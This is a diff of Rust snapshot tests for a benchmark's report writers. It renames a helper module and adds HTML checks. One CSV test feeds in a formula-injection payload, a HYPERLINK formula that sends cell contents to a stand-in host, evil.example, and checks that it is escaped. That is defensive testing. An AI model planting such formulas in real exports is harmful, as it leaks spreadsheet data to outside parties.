@@ -1,13 +1,13 @@
 //! Snapshot tests of the Markdown, CSV and JSON writers on fixed synthetic samples, and the
 //! HTML writer's escaping of hostile trace text.
 
-mod report_common;
+mod support;
 
 use ctxbench::report::{csv, html, json, markdown, ReportModel};
 
 fn model() -> (ctxbench::record::RunInfo, ReportModel) {
-    let info = report_common::info("run-fixed");
-    let model = ReportModel::build(&info, report_common::samples());
+    let info = support::report::info("run-fixed");
+    let model = ReportModel::build(&info, support::report::samples());
     (info, model)
 }
 
@@ -78,8 +78,8 @@ fn csv_is_rectangular_with_flat_columns() {
 
 #[test]
 fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
-    let info = report_common::info("run-hostile");
-    let mut samples = report_common::samples();
+    let info = support::report::info("run-hostile");
+    let mut samples = support::report::samples();
     let link = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
     for s in &mut samples {
         s.trace_id = link.to_string();
@@ -120,9 +120,9 @@ fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
 
 #[test]
 fn html_escapes_hostile_trace_text_and_has_no_script_but_its_own_or_external_reference() {
-    let info = report_common::info("run-fixed");
-    let mut samples = report_common::samples();
-    report_common::add_summaries(&mut samples);
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
     let model = ReportModel::build(&info, samples);
     let page = html::render(&info, &model);
     // One script element: the page's own, allowed by its hash in the CSP.
@@ -187,9 +187,9 @@ fn outline(page: &str) -> String {
 
 #[test]
 fn html_structure_snapshot() {
-    let info = report_common::info("run-fixed");
-    let mut samples = report_common::samples();
-    report_common::add_summaries(&mut samples);
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
     let model = ReportModel::build(&info, samples);
     let page = html::render(&info, &model);
     insta::assert_snapshot!("report_html_outline", outline(&page));
@@ -236,14 +236,49 @@ fn terminal_verdict_snapshot() {
 
 #[test]
 fn suite_choice_of_headline_metrics_is_followed() {
-    let mut info = report_common::info("run-fixed");
+    let mut info = support::report::info("run-fixed");
     info.suite = serde_json::json!({"report": {"metrics": ["tokens", "nope"]}});
-    let model = ReportModel::build(&info, report_common::samples());
+    let model = ReportModel::build(&info, support::report::samples());
     assert_eq!(model.headline, ["tokens"]);
     assert!(model.notes.iter().any(|n| n.contains("nope")));
+    // report.html shows the notes' code spans as code, as report.md does, not as backticks.
+    let page = html::render(&info, &model);
+    let notes = page.split("id=\"notes\"").nth(1).unwrap();
+    let notes = notes.split("</ul>").next().unwrap();
+    assert!(notes.contains("<code>cost.judge</code>"), "{notes}");
+    assert!(!notes.contains('`'), "{notes}");
     let md = markdown::render(&info, &model);
     let verdict = md.split("## Verdict").nth(1).unwrap();
     let verdict = verdict.split("## Summary").next().unwrap();
     assert!(verdict.contains("tokens"));
     assert!(!verdict.contains("recall"), "{verdict}");
+}
+
+/// A unit both flagged (a futile compaction) and failed shows "flagged" as its status and
+/// keeps "fail" in the verdict column, so the filter the page suggests (`verdict=fail`) finds
+/// every failed unit of a variant, flagged or not.
+#[test]
+fn html_samples_table_keeps_the_verdict_of_flagged_units() {
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    let s = samples
+        .iter_mut()
+        .find(|s| s.variant == "aggressive" && s.passed == Some(false))
+        .unwrap();
+    s.compactions.insert("futile".into(), 2);
+    let id = s.trace_id.clone();
+    let sample = s.sample.clone();
+    let model = ReportModel::build(&info, samples);
+    let page = html::render(&info, &model);
+    let table = page.split("id=\"samples-table\"").nth(1).unwrap();
+    let table = table.split("</table>").next().unwrap();
+    assert!(table.contains(">verdict</th>"), "{table}");
+    assert!(page.contains("<code>verdict=fail variant=aggressive</code>"));
+    let row = table
+        .split("<tr")
+        .find(|r| r.contains(&id) && r.contains(&sample) && r.contains(">flagged<"))
+        .unwrap_or_else(|| panic!("no flagged row for {id} {sample}"));
+    let cells: Vec<&str> = row.split("<td").skip(1).collect();
+    assert!(cells[0].contains("flagged"), "{row}");
+    assert!(cells[1].contains(">fail<"), "{row}");
 }
